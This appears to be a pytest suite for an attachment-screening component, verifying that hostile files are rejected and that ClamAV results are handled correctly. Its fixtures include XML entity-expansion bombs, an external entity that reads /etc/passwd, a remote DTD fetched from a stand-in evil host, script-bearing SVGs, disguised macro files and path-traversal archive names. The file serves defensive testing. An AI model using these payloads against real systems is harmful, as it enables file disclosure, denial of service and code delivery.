"""The kinds of hostile file that the firm must expect, each in the containers and under the names that carry it."""

from __future__ import annotations

import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest

from include.engagement.items import FILE_PROBLEMS
from include.screening import Verdict, screen
from include.screening.antivirus import Antivirus, AntivirusFailed, find_antivirus
from include.screening.content import EICAR
from rehearsal.attachments import make_file
from tests.screening.test_screen import LOCKED_OLE, SMALL, changed, content_types, packed, verdict_on

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
OUTSIDE = b'<!DOCTYPE l [<!ENTITY e SYSTEM "file:///etc/passwd">]><l>&e;</l>'
PARAMETER = b'<!DOCTYPE l [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]><l/>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">'
PLAIN_SVG = SVG + b"<path d='M0 0'/>" * 2_000


def macro(kind: str, of: str) -> bytes:
    more = f'<Override PartName="/x.xml" ContentType="application/vnd.ms-{of}.macroEnabled.main+xml"/>'
    return changed(kind, {"[Content_Types].xml": content_types(kind, more.encode())})


def moved(kind: str, types: bytes) -> bytes:
    return changed(kind, {"[Content_Types].xml": content_types(kind, types), "word/x.dat": LAUGHS})


KINDS: dict[str, tuple[str, bytes, str]] = {
    **{
        f"{what} in {kind}": (f"a.{kind}", changed(kind, {part: data}), "xml_declarations")
        for what, data in (("laughs", LAUGHS), ("a file from outside", OUTSIDE), ("a remote DTD", PARAMETER))
        for kind, part in (("docx", "word/document.xml"), ("xlsx", "xl/sharedStrings.xml"),
                           ("docx", "word/media/i.svg"), ("xlsx", "xl/media/i.svg"))
    },
    "laughs in a drawing called a picture": ("a.png", LAUGHS.replace(b"<l>", b"<svg >"), "program"),
    "laughs in a docx in a zip": ("a.zip", packed({"b.docx": changed("docx", {"word/x.xml": LAUGHS})}),
                                  "xml_declarations"),
    "a script far down a drawing": ("a.docx", changed("docx", {"word/media/i.svg": PLAIN_SVG + b"<script/></svg>"}),
                                    "program"),
    "a handler far down a drawing": (
        "a.docx", changed("docx", {"word/media/i.svg": PLAIN_SVG + b"<g onclick='x'/></svg>"}), "program"),
    "a link that is a script": (
        "a.docx", changed("docx", {"word/media/i.svg": PLAIN_SVG + b"<a href=' java\nscript:x'/></svg>"}), "program"),
    "XML under another ending": (
        "a.docx", moved("docx", b'<Default Extension="dat" ContentType="application/xml"/>'), "not_what_it_says"),
    "XML under another name": (
        "a.docx", moved("docx", b'<Override PartName="/word/x.dat" ContentType="application/x+xml"/>'),
        "not_what_it_says"),
    "a docm called docx": ("a.docx", macro("docx", "word.document"), "macros"),
    "an xlsm called xlsx": ("a.xlsx", macro("xlsx", "excel.sheet"), "macros"),
    "an xlsm": ("a.xlsm", macro("xlsx", "excel.sheet"), "macros"),
    "macros in a docx in a zip": (
        "a.zip", packed({"b.docx": changed("docx", {"word/vbaProject.bin": b"x"})}), "macros"),
    "a locked workbook": ("a.xlsx", LOCKED_OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "a page called a workbook": ("a.xlsx", b"<html><table><tr><td>1</td></tr></table></html>", "program"),
    "a page": ("a.html", b"<html><script>x</script></html>", "program"),
    "a drawing": ("a.svg", SVG + b"<script>x</script></svg>", "program"),
    "a drawing without a script": ("a.svg", SVG + b"</svg>", "program"),
    "a device's name": ("a.zip", packed({"nul.pdf": b"x"}), "unsafe_names"),
    "a device's name in a folder": ("a.zip", packed({"giay/COM1": b"x"}), "unsafe_names"),
    "a drive": ("a.zip", packed({"C:/x.txt": b"x"}), "unsafe_names"),
    "steps up, written as in Windows": ("a.zip", packed({"..\\..\\x.txt": b"x"}), "unsafe_names"),
    "a name turned around": ("a.zip", packed({"hd\u202efdp.txt": b"x"}), "unsafe_names"),
    "a name with a control character": ("a.zip", packed({"a\x1b[2J.txt": b"x"}), "unsafe_names"),
    "a name of 300 characters": ("a.zip", packed({"a" * 300 + ".txt": b"x"}), "unsafe_names"),
    "twins by their accents": (
        "a.zip", packed({unicodedata.normalize(form, "đề án.txt"): b"x" for form in ("NFC", "NFD")}), "damaged"),
    "EICAR in a workbook": ("a.xlsx", changed("xlsx", {"xl/media/i.png": EICAR}), "virus"),
    "EICAR behind a picture": ("a.jpg", make_file("pdf", title="x") + b" " * 70_000 + EICAR, "virus"),
}  # fmt: skip


@pytest.mark.parametrize("what", KINDS)
def test_a_hostile_kind_is_refused_for_what_it_is(what: str, tmp_path: Path) -> None:
    name, data, code = KINDS[what]
    verdict = verdict_on(tmp_path, name, data)
    assert (verdict.code, code in FILE_PROBLEMS) == (code, True), verdict.detail


@pytest.mark.parametrize("name", ["Đề án.txt", "console/contents.txt", "auxiliary.txt", "comments.txt", "a" * 200])
def test_an_archive_with_ordinary_names_is_taken(name: str, tmp_path: Path) -> None:
    assert verdict_on(tmp_path, "a.zip", packed({unicodedata.normalize("NFD", name): b"x"})).code is None


def test_a_drawing_as_drawing_programs_write_it_is_taken(tmp_path: Path) -> None:
    kind = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert verdict_on(tmp_path, "a.docx", changed("docx", {"word/media/i.svg": kind + SVG + b"</svg>"})).code is None


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pdf"])
def test_a_file_cut_off_anywhere_is_not_taken(kind: str, tmp_path: Path) -> None:
    data = make_file(kind, title="x")
    for tenth in range(1, 10):
        verdict = verdict_on(tmp_path, f"a.{kind}", data[: len(data) * tenth // 10])
        assert verdict.code in ("truncated", "damaged"), (tenth, verdict)


def test_an_archive_that_contains_itself_as_deep_as_one_looks_is_given_up(tmp_path: Path) -> None:
    inner = packed({"r.txt": b"x"})
    for _ in range(200):  # a quine never ends: whatever the depth, the answer is the same
        inner = packed({"r.zip": inner})
    for name, data in (("a.zip", inner), ("a.docx", changed("docx", {"word/embeddings/r.docx": inner})),
                       ("a.xlsx", changed("xlsx", {"xl/embeddings/r.xlsx": inner}))):  # fmt: skip
        assert verdict_on(tmp_path, name, data).code == "nested_too_deep"


# --- ClamAV ---------------------------------------------------------------------------------------------


def clamav(folder: Path, script: str, *, name: str = "clamscan", seconds: float = 20) -> Antivirus:
    """A program that ends and speaks as ClamAV's do: 0 clean, 1 found, 2 failed (clamscan(1), clamdscan(1))."""
    program = folder / name
    program.write_text(f"#!/bin/sh\n{script}\n", encoding="utf-8")
    program.chmod(0o755)
    return Antivirus(str(program), timeout_seconds=seconds)


def scanned(folder: Path, data: bytes, antivirus: Antivirus) -> Verdict:
    path = folder / "arrived"
    path.write_bytes(data)
    return screen(path, name="a.pdf", limits=replace(SMALL), antivirus=antivirus)


PDF = make_file("pdf", title="x")


def test_what_clamav_finds_is_refused_under_its_name(tmp_path: Path) -> None:
    found = clamav(tmp_path, 'for f; do :; done; echo "$f: Win.Test.EICAR_HDB-1 FOUND"; exit 1')
    verdict = scanned(tmp_path, PDF, found)
    assert (verdict.code, verdict.detail) == ("virus", "Win.Test.EICAR_HDB-1")


def test_what_clamav_finds_clean_is_looked_at_all_the_same(tmp_path: Path) -> None:
    clean = clamav(tmp_path, "exit 0")
    assert scanned(tmp_path, PDF, clean).code is None
    assert scanned(tmp_path, EICAR, clean).code == "virus"


@pytest.mark.parametrize("script", ["echo 'LibClamAV Error: no database' >&2; exit 2", "exec sleep 30", "kill -9 $$"])
def test_clamav_without_an_answer_is_a_failure_and_no_clean_file(tmp_path: Path, script: str) -> None:
    seconds = 0.2 if "sleep" in script else 20
    with pytest.raises(AntivirusFailed):
        scanned(tmp_path, PDF, clamav(tmp_path, script, seconds=seconds))


def test_the_daemons_client_is_handed_the_open_file(tmp_path: Path) -> None:
    daemon = clamav(tmp_path, 'echo "$@" > "$0.said"', name="clamdscan")
    scanned(tmp_path, PDF, daemon)
    said = (tmp_path / "clamdscan.said").read_text(encoding="utf-8").split()
    assert said[0] == "--fdpass" and said[-2:] == ["--", str(tmp_path / "arrived")]


def test_an_antivirus_that_is_named_and_not_installed_stops_the_work(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ENGAGEMENT_ANTIVIRUS", "no-such-antivirus")
    with pytest.raises(AntivirusFailed):
        find_antivirus()
    monkeypatch.setenv("ENGAGEMENT_ANTIVIRUS", "")
    assert find_antivirus() is None
